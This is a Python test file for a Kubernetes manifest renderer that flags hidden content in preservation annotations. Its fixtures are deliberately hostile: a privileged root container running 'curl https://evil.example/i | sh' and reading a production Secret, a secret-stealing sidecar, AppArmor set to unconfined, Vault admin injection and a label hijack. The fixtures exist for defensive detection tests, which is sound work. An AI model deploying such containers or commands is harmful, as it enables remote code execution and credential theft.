"""Content only a preservation annotation carries: rendered as the operator renders it, and reported.

The inputs are the review's examples: a v1alpha1 DCD whose visible spec is one frontend image
and whose ``nvidia.com/dcd-spec`` (a v1beta1 spec) adds a privileged root container that pipes
curl into sh and reads a production Secret; a v1beta1 DCD whose annotation (v1alpha1 fields)
adds AppArmor, Istio and Vault pod annotations and a label another app's Service selects; a
v1beta1 DGD whose annotation adds a 100Ti PVC. Each item is a ``preserved-content`` warning
naming it; ``validate`` and strict runs fail; ``acceptPreservedContent`` accepts a source;
a ``convert`` output reports nothing; ``diff`` lists the pod-level change.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from plugin.frontends import convert
from renderer.results import Code, Severity
from tests.e2e.test_hostile_inputs import run_cmp, run_render, run_validate
from tests.fuzz.support import render
from tests.unit.test_krm import function_input, resource_list, run_krm

IMAGE = "nvcr.io/nvidia/ai-dynamo/vllm-runtime:0.9.0"
HELPER = {
    "name": "helper",
    "image": "evil.example/x:1",
    "command": ["sh", "-c", "curl https://evil.example/i | sh"],
    "securityContext": {"privileged": True, "runAsUser": 0},
    "envFrom": [{"secretRef": {"name": "prod-db"}}],
}
ALPHA_DCD: dict[str, Any] = {
    "apiVersion": "nvidia.com/v1alpha1",
    "kind": "DynamoComponentDeployment",
    "metadata": {
        "name": "fe",
        "namespace": "llm",
        "annotations": {
            "nvidia.com/dcd-spec": json.dumps({
                "version": 1,
                "spec": {"name": "fe", "type": "frontend", "podTemplate": {"spec": {"containers": [{"name": "main", "image": IMAGE}, HELPER]}}},
            })
        },
    },
    "spec": {"componentType": "frontend", "serviceName": "fe", "extraPodSpec": {"mainContainer": {"image": IMAGE}}},
}
POD_ANNOTATIONS = {
    "container.apparmor.security.beta.kubernetes.io/main": "unconfined",
    "sidecar.istio.io/inject": "false",
    "vault.hashicorp.com/agent-inject": "true",
    "vault.hashicorp.com/role": "admin",
}
BETA_DCD: dict[str, Any] = {
    "apiVersion": "nvidia.com/v1beta1",
    "kind": "DynamoComponentDeployment",
    "metadata": {
        "name": "fe",
        "namespace": "llm",
        "annotations": {"nvidia.com/dcd-spec": json.dumps({"version": 1, "spec": {"annotations": POD_ANNOTATIONS, "labels": {"app": "payments"}}})},
    },
    "spec": {"type": "frontend", "podTemplate": {"spec": {"containers": [{"name": "main", "image": IMAGE}]}}},
}
BETA_DGD: dict[str, Any] = {
    "apiVersion": "nvidia.com/v1beta1",
    "kind": "DynamoGraphDeployment",
    "metadata": {
        "name": "g",
        "namespace": "llm",
        "annotations": {
            "nvidia.com/dgd-spec": json.dumps({
                "version": 1,
                "spec": {"pvcs": [{"name": "huge", "create": True, "size": "100Ti", "storageClass": "fast", "volumeAccessMode": "ReadWriteMany"}]},
            })
        },
    },
    "spec": {"components": [{"name": "fe", "type": "frontend", "podTemplate": {"spec": {"containers": [{"name": "main", "image": IMAGE}]}}}]},
}
PREFIX = "content only this preservation annotation carries: "


def _write(tmp_path: Path, obj: dict[str, Any], name: str = "app.yaml") -> Path:
    path = tmp_path / name
    path.write_text(json.dumps(obj))
    return path


def _items(tmp_path: Path, obj: dict[str, Any]) -> list[str]:
    run = render([_write(tmp_path, obj)])
    assert run.code == 0, run.stderr
    found = [r for r in run.results if r.code is Code.PRESERVED]
    assert all(r.severity is Severity.WARNING for r in found)
    assert all(r.field.startswith("metadata.annotations[nvidia.com/d") for r in found)
    assert all(r.message.startswith(PREFIX) for r in found)
    return [r.message[len(PREFIX) :] for r in found]


def test_a_second_container_from_a_v1alpha1_annotation_is_rendered_and_named(tmp_path: Path) -> None:
    run = render([_write(tmp_path, ALPHA_DCD)])
    deployment = next(o for o in run.objects() if o["kind"] == "Deployment")
    assert [c["name"] for c in deployment["spec"]["template"]["spec"]["containers"]] == ["main", "helper"]  # faithful
    assert _items(tmp_path, ALPHA_DCD) == [
        'Deployment/llm/fe: container "helper" (image evil.example/x:1, command ["sh", "-c", "curl https://evil.example/i | sh"], '
        "privileged, runAsUser 0 (root), envFrom Secret prod-db) added"
    ]


def test_pod_annotations_and_a_label_from_a_v1beta1_annotation_are_named_by_key(tmp_path: Path) -> None:
    items = _items(tmp_path, BETA_DCD)
    for key, value in POD_ANNOTATIONS.items():
        assert f'Deployment/llm/fe: pod annotation "{key}" added ("{value}")' in items
    assert 'Deployment/llm/fe: pod label "app" added ("payments")' in items
    assert 'Service/llm/fe: label "app" added ("payments")' in items


def test_a_pvc_from_a_dgd_annotation_is_named_with_its_size(tmp_path: Path) -> None:
    assert _items(tmp_path, BETA_DGD) == ["adds PersistentVolumeClaim/llm/huge (size 100Ti, storageClassName fast)"]


def test_env_secrets_host_ports_and_ingress_are_named(tmp_path: Path) -> None:
    """Fields the visible spec can express are the visible spec's (the conversion restores only what it cannot)."""
    alpha = json.loads(json.dumps(ALPHA_DCD))
    sidecar = {
        "name": "tap",
        "image": "evil.example/tap:1",
        "env": [{"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "prod", "key": "token"}}}],
        "ports": [{"containerPort": 9000, "hostPort": 9000}],
        "securityContext": {"capabilities": {"add": ["NET_ADMIN"]}},
    }
    pod = {"hostNetwork": True, "containers": [{"name": "main", "image": IMAGE}, sidecar]}
    alpha["metadata"]["annotations"]["nvidia.com/dcd-spec"] = json.dumps(
        {"version": 1, "spec": {"name": "fe", "type": "frontend", "podTemplate": {"spec": pod}}}
    )
    assert _items(tmp_path, alpha) == [
        'Deployment/llm/fe: container "tap" (image evil.example/tap:1, capabilities add ["NET_ADMIN"], '
        "env TOKEN from Secret prod/token, hostPort 9000) added"
    ]
    beta = json.loads(json.dumps(BETA_DCD))
    beta["metadata"]["annotations"]["nvidia.com/dcd-spec"] = json.dumps(
        {"version": 1, "spec": {"ingress": {"enabled": True, "host": "evil", "ingressControllerClassName": "nginx"}}}
    )
    assert _items(tmp_path, beta) == ["adds Ingress/llm/fe (hosts evil.local)"]


def test_v1alpha1_fields_a_v1beta1_spec_already_gives_contribute_nothing(tmp_path: Path) -> None:
    graph = json.loads(json.dumps(BETA_DGD))
    spec = json.loads(graph["metadata"]["annotations"]["nvidia.com/dgd-spec"])["spec"]
    spec["services"] = {"fe": {"envs": [{"name": "X", "value": "1"}], "resources": {"limits": {"cpu": "64"}}}}
    graph["metadata"]["annotations"]["nvidia.com/dgd-spec"] = json.dumps({"version": 1, "spec": spec})
    assert _items(tmp_path, graph) == ["adds PersistentVolumeClaim/llm/huge (size 100Ti, storageClassName fast)"]


def test_a_source_without_the_annotation_reports_nothing(tmp_path: Path) -> None:
    plain = json.loads(json.dumps(BETA_DCD))
    del plain["metadata"]["annotations"]
    run = render([_write(tmp_path, plain)])
    assert run.code == 0 and not [r for r in run.results if r.code is Code.PRESERVED]


@pytest.mark.parametrize("obj", [ALPHA_DCD, BETA_DCD, BETA_DGD], ids=["v1alpha1-dcd", "v1beta1-dcd", "v1beta1-dgd"])
def test_validate_fails_and_strict_fails(obj: dict[str, Any], tmp_path: Path) -> None:
    code, _, stderr = run_validate(json.dumps(obj), tmp_path)
    assert code == 1
    assert "[error]" in stderr and PREFIX in stderr
    strict = render([_write(tmp_path, obj)], strict=True)
    assert strict.code == 1 and strict.stdout == ""
    assert any(r.code is Code.PRESERVED and r.is_error for r in strict.results)


def _settings(tmp_path: Path, accept: list[str]) -> Path:
    path = tmp_path / "settings.yaml"
    path.write_text(yaml.safe_dump({
        "apiVersion": "config.dynamo-render.dev/v1alpha1", "kind": "DynamoRenderConfig", "spec": {"acceptPreservedContent": accept},
    }))
    return path


def test_an_accepted_source_is_info_and_passes_validate_and_strict(tmp_path: Path) -> None:
    config = _settings(tmp_path, ["DynamoComponentDeployment/llm/f?"])
    app = _write(tmp_path, BETA_DCD)
    strict = render([app], strict=True, config=config)
    assert strict.code == 0, strict.stderr
    notes = [r for r in strict.results if r.code is Code.PRESERVED]
    assert notes and all(r.severity is Severity.INFO and r.message.endswith("(accepted by acceptPreservedContent)") for r in notes)
    proc = subprocess.run(
        [sys.executable, "-m", "plugin", "validate", "--config", str(config), str(app)], capture_output=True, text=True, check=False,
        cwd=Path(__file__).resolve().parents[2],
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_acceptance_is_by_source(tmp_path: Path) -> None:
    config = _settings(tmp_path, ["DynamoComponentDeployment/other/*", "DynamoGraphDeployment/llm/*"])
    run = render([_write(tmp_path, BETA_DCD)], strict=True, config=config)
    assert run.code == 1
    assert any(r.code is Code.PRESERVED and r.is_error for r in run.results)
    assert not [r for r in run.results if r.code is Code.CONFIG and r.is_error]


def test_krm_function_reports_and_accepts_by_configmap_key() -> None:
    code, _, _, parsed = run_krm(resource_list([BETA_DCD]))
    assert code == 0
    warned = [r for r in parsed["results"] if r["message"].startswith(PREFIX)]
    assert warned and all(r["severity"] == "warning" for r in warned)
    assert warned[0]["field"] == {"path": "metadata.annotations[nvidia.com/dcd-spec]"}
    code, _, _, _ = run_krm(resource_list([BETA_DCD], function_input(strict="true")))
    assert code == 1
    code, _, err, _ = run_krm(resource_list([BETA_DCD], function_input(strict="true", acceptPreservedContent="DynamoComponentDeployment/llm/fe")))
    assert code == 0, err


def test_the_cmp_prints_the_warnings(tmp_path: Path) -> None:
    code, stdout, stderr = run_cmp(json.dumps(BETA_DGD), tmp_path)
    assert code == 0 and stdout
    assert "[warning]" in stderr and "adds PersistentVolumeClaim/llm/huge (size 100Ti" in stderr


def test_a_convert_output_that_carries_v1alpha1_data_for_its_visible_spec_reports_nothing(tmp_path: Path) -> None:
    """convert writes a dcd-spec / dgd-spec (main-container origins, Dynamo namespaces) that re-expresses the visible spec."""
    alpha = json.loads(json.dumps(ALPHA_DCD))
    del alpha["metadata"]["annotations"]
    alpha["spec"]["dynamoNamespace"] = "team-ns"
    alpha["spec"]["extraPodSpec"]["mainContainer"]["command"] = ["python3", "-m", "dynamo.frontend"]
    graph = {
        "apiVersion": "nvidia.com/v1alpha1",
        "kind": "DynamoGraphDeployment",
        "metadata": {"name": "g", "namespace": "llm"},
        "spec": {"services": {"Frontend": {"componentType": "frontend", "dynamoNamespace": "g-ns", "replicas": 1,
                                           "extraPodSpec": {"mainContainer": {"image": IMAGE}}}}},
    }
    for obj in (alpha, graph):
        source = _write(tmp_path, obj, "alpha.yaml")
        out, err = io.StringIO(), io.StringIO()
        assert convert.run_stream([str(source)], "yaml", out, err) == 0, err.getvalue()
        assert "nvidia.com/d" in out.getvalue() and "-spec:" in out.getvalue()  # it does carry an annotation
        converted = tmp_path / "converted.yaml"
        converted.write_text(out.getvalue())
        run = render([converted], strict=True)
        assert run.code == 0, run.stderr
        assert not [r for r in run.results if r.code is Code.PRESERVED]


def _diff(*args: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "plugin", "diff", *map(str, args)], capture_output=True, text=True, check=False,
        cwd=Path(__file__).resolve().parents[2],
    )


def test_diff_shows_the_pod_level_change(tmp_path: Path) -> None:
    before = json.loads(json.dumps(ALPHA_DCD))
    del before["metadata"]["annotations"]
    old = _write(tmp_path, before, "old.yaml")
    new = _write(tmp_path, ALPHA_DCD, "new.yaml")
    helper = ('container "helper" (image evil.example/x:1, command ["sh", "-c", "curl https://evil.example/i | sh"], '
              "privileged, runAsUser 0 (root), envFrom Secret prod-db) added")
    text = _diff(old, new)
    assert text.returncode == 0, text.stderr
    assert f"rolled    Deployment llm/fe\n            {helper}\n" in text.stdout
    report = json.loads(_diff("-o", "json", old, new).stdout)
    [rolled] = [c for c in report["changes"] if c["action"] == "rolled"]
    assert rolled["podChanges"] == [helper]
    markdown = _diff("-o", "markdown", old, new).stdout
    assert "#### What changes in the pods" in markdown and f"  - `{helper}`" in markdown


def test_diff_names_pod_annotations_and_labels(tmp_path: Path) -> None:
    before = json.loads(json.dumps(BETA_DCD))
    del before["metadata"]["annotations"]
    report = json.loads(_diff("-o", "json", _write(tmp_path, before, "old.yaml"), _write(tmp_path, BETA_DCD, "new.yaml")).stdout)
    [rolled] = [c for c in report["changes"] if c["action"] == "rolled"]
    assert 'pod label "app" added ("payments")' in rolled["podChanges"]
    assert 'pod annotation "container.apparmor.security.beta.kubernetes.io/main" added ("unconfined")' in rolled["podChanges"]


@pytest.mark.slow
def test_no_converted_corpus_manifest_reports_preserved_content(tmp_path: Path) -> None:
    """The documented claim: convert's annotations carry v1alpha1 data for their own visible spec only."""
    from tests.test_corpus_convert import CORPUS, V1ALPHA1

    checked = 0
    for name in V1ALPHA1:
        if render([CORPUS / name]).code != 0:
            continue
        out, err = io.StringIO(), io.StringIO()
        assert convert.run_stream([str(CORPUS / name)], "yaml", out, err) == 0, err.getvalue()
        converted = tmp_path / name
        converted.write_text(out.getvalue(), encoding="utf-8")
        again = render([converted])
        assert again.code == 0, again.stderr
        assert not [r.line() for r in again.results if r.code is Code.PRESERVED], name
        checked += 1
    assert checked >= 60
